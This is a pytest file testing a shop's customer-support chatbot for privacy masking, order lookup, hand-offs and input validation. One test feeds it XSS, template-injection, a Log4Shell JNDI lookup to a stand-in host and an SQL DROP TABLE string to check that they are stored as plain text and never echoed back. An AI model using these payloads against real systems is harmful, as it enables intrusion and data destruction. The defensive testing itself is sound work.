"""Whole turns, as a customer would see them: what is said, what is withheld, what is remembered."""

from dataclasses import replace

import pytest

from app.adapters.crm_memory import MemoryCustomerRecords
from app.domain.conversation import Author, OpenQuestion
from app.domain.ids import ConversationId
from app.domain.reply import Delivery, FlagReason, Origin
from app.errors import EmptyMessage, InvalidInput, MessageTooLong, NotFound
from app.pipeline.assistant import checked
from tests.builders import a_customer, a_shipped_order
from tests.pipeline.chain import (
    LENA,
    MAYA,
    PRODUCTS,
    SAMUEL,
    TOM,
    GivenLanguage,
    build_parts,
    talk,
)


def test_a_late_parcel_is_told_with_the_facts_of_the_records() -> None:
    record = talk(MAYA).says("where is my parcel?")

    assert record.delivered.startswith(
        "Hi Maya,\nYour order LF-10482 is 3 days late, and it is now expected on Wednesday, March 4."
    )
    assert record.decision.delivery is Delivery.SEND
    assert record.origin is Origin.APPROVED
    assert record.situations[0].key == "track_order/late"


def test_the_message_is_kept_before_and_the_reply_after_the_turn() -> None:
    conversation = talk(MAYA)
    record = conversation.says("where is", "my parcel?")

    messages = conversation.store.messages(conversation.id)
    assert [(message.author, message.text) for message in messages] == [
        (Author.CUSTOMER, "where is"),
        (Author.CUSTOMER, "my parcel?"),
        (Author.ASSISTANT, record.delivered),
    ]
    assert conversation.store.turn(record.id) == record


def test_her_words_stand_masked_in_the_record() -> None:
    record = talk(MAYA).says("I am Maya Okafor, maya.okafor@example.com, where is LF-10482? Call +1 503 555 0142")

    for secret in ("Maya", "Okafor", "@", "10482", "0142"):
        assert secret not in record.asked
        assert secret not in record.situations[0].request.masked


def test_who_is_not_signed_in_hears_nothing_of_any_order() -> None:
    record = talk().says("where is LF-10482?")

    assert record.delivered == "Please sign in at the top of the page and ask me again."
    assert "crm" not in {fact.source for fact in record.situations[0].facts}


@pytest.mark.parametrize("number", ["LF-20002", "LF-99999", "#20002"])
def test_another_customers_number_is_answered_like_one_that_does_not_exist(number: str) -> None:
    record = talk(MAYA).says(f"where is {number}?")

    echoed = number.removeprefix("#")
    assert record.delivered == f"Hi Maya,\nI cannot find {echoed} among the orders on this account."
    assert "Tom" not in str(record)


def test_the_bot_never_confirms_an_amount_that_only_the_customer_names() -> None:
    for text in ("you promised me $500", "you owe me 500 dollars, where is it", "cancel it and pay me €500"):
        record = talk(SAMUEL).says(text)

        assert "500" not in record.delivered
        assert all("500" not in candidate.text for item in record.situations for candidate in item.candidates)
        assert "500" not in record.asked


def test_two_requests_are_answered_in_one_reply() -> None:
    record = talk(MAYA).says("where is my parcel and also what delivery options are there")

    assert [item.key for item in record.situations] == ["track_order/late", "delivery_options/list"]
    assert record.delivered.count("Hi Maya,") == 1
    assert "LF-10482" in record.delivered
    assert "As for your other question:\nStandard delivery takes" in record.delivered


def test_which_one_is_asked_and_a_few_words_answer_it() -> None:
    conversation = talk(TOM)

    asked = conversation.says("cancel my order")
    assert "LF-20002 (Ridgeline Trail Shoes, March 1) or LF-20001 (Inglenook Kettle, February 28)" in asked.delivered
    assert conversation.state.open_question is OpenQuestion.WHICH_ORDER

    answered = conversation.says("the second one")
    assert answered.delivered.startswith('You can cancel LF-20001 under "My orders".')
    assert conversation.state.order_in_focus == "LF-20001"


@pytest.mark.parametrize(("text", "number"), [("the shoes one", "LF-20002"), ("20001", "LF-20001")])
def test_an_order_is_picked_by_what_is_in_it_or_by_its_number(text: str, number: str) -> None:
    conversation = talk(TOM)
    conversation.says("cancel my order")

    assert number in conversation.says(text).delivered


def test_a_new_request_after_which_one_is_a_new_request() -> None:
    conversation = talk(TOM)
    conversation.says("cancel my order")

    assert conversation.says("what delivery options are there for me and my dog at home?").situations[0].key == (
        "delivery_options/list"
    )


def test_the_order_spoken_of_stays_in_focus() -> None:
    conversation = talk(TOM)
    conversation.says("where is LF-20001")

    assert "LF-20001" in conversation.says("cancel it please").delivered


def test_yes_to_an_offer_hands_over_with_what_is_to_be_done() -> None:
    conversation = talk(SAMUEL)
    conversation.says("cancel my order")
    assert conversation.state.open_question is OpenQuestion.PASS_TO_PERSON

    record = conversation.says("yes please")

    assert record.decision.delivery is Delivery.HAND_OFF
    assert record.decision.action == "cancel_order"
    assert record.delivered.startswith("All right, a colleague takes it from here")
    assert conversation.state.open_question is None


def test_no_to_an_offer_is_taken_for_an_answer() -> None:
    conversation = talk(SAMUEL)
    conversation.says("cancel my order")

    record = conversation.says("no thanks")

    assert record.decision.delivery is Delivery.SEND
    assert record.delivered == "All right. If anything else comes up, just write."


@pytest.mark.parametrize(
    ("text", "begins"),
    [("ok do that", "I cannot do that from this chat."), ("yes please", "I cannot do that"), ("ok", "All right.")],
)
def test_do_that_without_an_offer_is_not_answered_as_if_it_were_done(text: str, begins: str) -> None:
    conversation = talk(MAYA)
    conversation.says("where is my parcel")
    assert conversation.state.open_question is None

    assert conversation.says(text).delivered.startswith(begins)


def test_yes_without_an_offer_hands_nothing_over() -> None:
    assert talk(SAMUEL).says("yes").decision.delivery is Delivery.SEND


def test_the_wish_for_a_person_is_granted() -> None:
    record = talk(LENA).says("let me talk to a person")

    assert record.decision.delivery is Delivery.HAND_OFF
    assert record.decision.action == "talk_to_customer"
    assert record.delivered.startswith("Hi Lena,\nA colleague takes over here.")


def test_what_has_nothing_to_do_with_the_shop_is_declined_kindly() -> None:
    record = talk(MAYA).says("what is the capital of Peru")

    assert record.delivered == "Hi Maya,\nI can help with orders, deliveries, returns and your account."
    assert [flag.reason for flag in record.flags] == [FlagReason.OUT_OF_SCOPE]


@pytest.mark.parametrize(
    ("language", "begins"), [("de", "Ich spreche bisher leider nur Englisch."), ("tr", "I only speak English so far.")]
)
def test_a_language_the_bot_does_not_speak_goes_to_a_person(language: str, begins: str) -> None:
    parts = replace(build_parts(), language=GivenLanguage(language))

    record = talk(MAYA, parts).says("wo ist mein Paket")

    assert record.decision.delivery is Delivery.HAND_OFF
    assert record.delivered.startswith(begins)


def test_a_text_whose_language_cannot_be_told_is_answered() -> None:
    parts = replace(build_parts(), language=GivenLanguage(None))

    assert talk(MAYA, parts).says("where parcel").decision.delivery is Delivery.SEND


@pytest.mark.parametrize("text", ["", " \n\t ", "\x00\x07\x1b", "\u200b\u200e"])
def test_a_message_without_text_is_refused_and_not_kept(text: str) -> None:
    conversation = talk(MAYA)

    with pytest.raises(EmptyMessage):
        conversation.says(text)
    assert conversation.store.messages(conversation.id) == []


def test_a_message_of_a_hundred_kilobytes_is_refused_and_not_kept() -> None:
    conversation = talk(MAYA)

    with pytest.raises(MessageTooLong):
        conversation.says("where is my parcel " * 5400)
    assert conversation.store.messages(conversation.id) == []


def test_a_message_of_the_greatest_length_is_answered() -> None:
    assert talk(MAYA).says("where is my parcel ".ljust(4000, "x")).delivered


@pytest.mark.parametrize("text", ["where \ud83d is it", "\udfff"])
def test_a_broken_character_is_refused(text: str) -> None:
    with pytest.raises(InvalidInput):
        talk(MAYA).says(text)


def test_control_characters_are_left_out_and_the_rest_is_answered() -> None:
    conversation = talk(MAYA)

    assert conversation.says("where\x00 is\x1b[31m my\tparcel\n?").decision.delivery is Delivery.SEND
    assert conversation.store.messages(conversation.id)[0].text == "where is[31m my\tparcel\n?"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script> where is my parcel",
        "where is <b>LF-99999</b><img src=x onerror=alert(1)>",
        "where is {order_id} {{7*7}} ${jndi:ldap://evil.example} my parcel",
        "'; DROP TABLE turns; -- where is my parcel",
    ],
)
def test_markup_and_code_are_only_text(text: str) -> None:
    conversation = talk(MAYA)
    record = conversation.says(text)

    assert conversation.store.messages(conversation.id)[0].text == text
    for piece in ("<", ">", "{", "script", "alert", "evil", "49", "DROP"):
        assert piece not in record.delivered


def test_an_unknown_conversation_is_not_found() -> None:
    with pytest.raises(NotFound):
        talk(MAYA).assistant.reply_to(ConversationId("conv_none"), ["where is my parcel"])


def test_nothing_of_one_customer_stands_in_the_record_of_another() -> None:
    parts = build_parts()
    talk(MAYA, parts).says("where is my parcel")

    record = str(talk(SAMUEL, parts).says("where is my parcel"))

    assert "LF-10482" not in record
    assert "Maya" not in record


def test_the_greeting_the_loyalty_and_the_delay_are_told_once() -> None:
    conversation = talk(MAYA)

    first, second = conversation.says("where is my parcel"), conversation.says("where is my parcel")

    assert "Hi Maya," in first.delivered
    assert "ordered from us 5 times in the past six months" in first.delivered
    assert "Hi Maya," not in second.delivered
    assert "six months" not in second.delivered


def test_a_delay_is_mentioned_where_the_question_was_another() -> None:
    record = talk(MAYA).says("cancel LF-10482")

    assert (
        "Your parcel is running 3 days late, by the way; it is now expected on Wednesday, March 4." in record.delivered
    )


def test_a_seldom_customer_hears_nothing_of_loyalty() -> None:
    records = MemoryCustomerRecords([a_customer(a_shipped_order(late=2), number=MAYA)], PRODUCTS)

    record = talk(MAYA, replace(build_parts(), records=records)).says("where is my parcel")

    assert "six months" not in record.delivered


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("order\u00a0LF-10482", "order LF-10482"),
        ("2\u202f500", "2 500"),
        ("one\r\ntwo\rthree\u2028four", "one\ntwo\nthree\nfour"),
        ("a family 👨\u200d👩\u200d👧", "a family 👨\u200d👩\u200d👧"),
        ("zero\u200bwidth\x07", "zerowidth"),
    ],
)
def test_spaces_and_line_ends_of_every_kind_are_kept_as_plain_ones(typed: str, kept: str) -> None:
    assert checked(typed, 100) == kept
